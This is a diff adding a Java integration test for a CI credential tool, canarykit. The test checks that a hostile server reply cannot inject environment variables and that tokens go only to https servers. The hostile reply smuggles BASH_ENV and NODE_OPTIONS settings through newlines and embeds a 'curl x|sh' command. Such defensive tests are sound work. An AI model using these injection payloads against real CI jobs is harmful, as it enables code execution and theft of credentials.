@@ -266,6 +266,55 @@ class CiIntegrationsIT {
         assertThat(node("post.js", post).out()).contains("nothing to complete");
     }
 
+    /** A server (or whoever answers in its place) that tries to write its own variables into the job's environment. */
+    private static final String HOSTILE = "{\"canaryId\":\"01JEZ8Q4X9M7T2V6B3N5K8C1RD\",\"credential\":{"
+            + "\"accessKeyId\":\"ASIAQRSTUVWXYZ234567\\nBASH_ENV=/tmp/pwn.sh\",\"secretAccessKey\":\"abc\\\"; curl x|sh; \\\"\","
+            + "\"sessionToken\":\"tok\\nNODE_OPTIONS=--require=/tmp/pwn.js\"}}";
+
+    @Test
+    void aHostileAnswerCannotWriteIntoTheJobsEnvironmentAndTheTokenGoesOnlyToHttps() throws Exception {
+        com.github.tomakehurst.wiremock.WireMockServer fake = new com.github.tomakehurst.wiremock.WireMockServer(
+                com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig().bindAddress("127.0.0.1")
+                        .dynamicPort().jettyAcceptors(1).containerThreads(8));
+        fake.start();
+        try {
+            fake.stubFor(com.github.tomakehurst.wiremock.client.WireMock.any(
+                    com.github.tomakehurst.wiremock.client.WireMock.anyUrl()).willReturn(
+                    com.github.tomakehurst.wiremock.client.WireMock.aResponse().withStatus(201)
+                            .withHeader("Content-Type", "application/json").withBody(HOSTILE)));
+            bed.github.serveIdToken(bed.github.token(run("7153946263")));
+            Map<String, String> env = runner(Map.of("fail-on-error", "true"));
+            env.put("INPUT_SERVER", fake.baseUrl());
+            Result main = node("main.js", env);
+            assertThat(main.exit()).isEqualTo(1);
+            assertThat(main.out()).contains("::error::canarykit: the server's answer has no usable access key id");
+            assertThat(Files.readString(dir.resolve("github_env"))).as("nothing exported").isEmpty();
+
+            Map<String, String> job = gitlabJob(TestOidcIssuer.gitlabJob("acme/platform/deployer"),
+                    Map.of("CANARYKIT_SERVER", fake.baseUrl()));
+            Path seen = dir.resolve("hostile-env");
+            Result gitlab = exec(List.of("sh", "-e", "-c", template().at("/before_script/0").asText()
+                    + "\nenv > '" + seen + "'\n"), job);
+            assertThat(gitlab.exit()).as(gitlab.out()).isZero();
+            assertThat(Files.readString(seen)).doesNotContain("BASH_ENV").doesNotContain("NODE_OPTIONS")
+                    .doesNotContain("AWS_ACCESS_KEY_ID").doesNotContain("curl x");
+        } finally {
+            fake.stop();
+        }
+
+        // a server that is not https (and not loopback) never sees the job's token
+        bed.github.serveIdToken(bed.github.token(run("7153946264")));
+        Map<String, String> plain = runner(Map.of());
+        plain.put("INPUT_SERVER", "http://canary.example.com");
+        Result refused = node("main.js", plain);
+        assertThat(refused.out()).contains("::warning::canarykit: the canarykit server must be an https:// URL, not "
+                + "http://canary.example.com");
+        Result gitlab = exec(List.of("sh", "-e", "-c", template().at("/before_script/0").asText()),
+                gitlabJob(TestOidcIssuer.gitlabJob("acme/platform/deployer"),
+                        Map.of("CANARYKIT_SERVER", "http://canary.example.com")));
+        assertThat(gitlab.out()).contains("the canarykit server must be an https:// URL");
+    }
+
     // ------------------------------------------------------------------------------------------------ GitLab
 
     private static JsonNode template() throws IOException {
